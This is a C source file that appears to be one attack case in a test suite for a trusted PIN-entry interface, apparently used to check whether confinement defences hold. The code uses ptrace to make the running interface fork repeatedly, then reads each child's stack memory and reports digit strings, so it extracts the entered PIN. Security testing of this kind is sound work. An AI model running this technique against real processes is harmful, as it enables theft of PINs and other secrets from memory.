// SPDX-License-Identifier: Apache-2.0
/*
 * Makes the trusted user interface fork, now and then, and looks for the PIN in the child.
 *
 * attack: forked_copy
 * class: process
 * when: session
 * judge: keys
 * defence: confinement
 * why: ptrace(2) to make it call fork(); as with ptrace_attach, and the module's fd and canvas
 *      are of no use to a child
 */
#include <errno.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#include "memory.h"
#include "process.h"
#include "report.h"
#include "tracer.h"

#define PERIOD 400	/* milliseconds from fork to fork */

static pid_t fork_it(pid_t pid)
{
	long ret = tracer_stop(pid, PTRACE_O_TRACEFORK);

	if (ret)
		return (pid_t)ret;
	ret = tracer_call(pid, SYS_fork, 0, 0);
	tracer_release(pid);
	return (pid_t)ret;
}

/* The child is traced, and stopped, from its birth. */
static void search(pid_t child)
{
	struct memory_range stack;
	char *memory;
	ssize_t got;

	if (memory_find(child, "[stack]", &stack))
		return;
	memory = malloc(stack.end - stack.start);
	got = memory ? memory_read_vm(child, stack.start, memory, stack.end - stack.start) : 0;
	if (got > 0)
		process_report_digits(memory, (size_t)got);
	free(memory);
}

int main(void)
{
	pid_t pid, child;

	attack_init();
	attack_ready();
	pid = process_wait_tui();
	if (!pid)
		attack_failed("it sees no tconn-tui");
	do {
		child = fork_it(pid);
		if (child <= 0)
			break;
		search(child);
		kill(child, SIGKILL);
		waitpid(child, NULL, __WALL);
	} while (!attack_wait(PERIOD));
	if (child < 0)
		attack_failed("process %d does not fork: %s", pid, strerror(-child));
	attack_done();
}
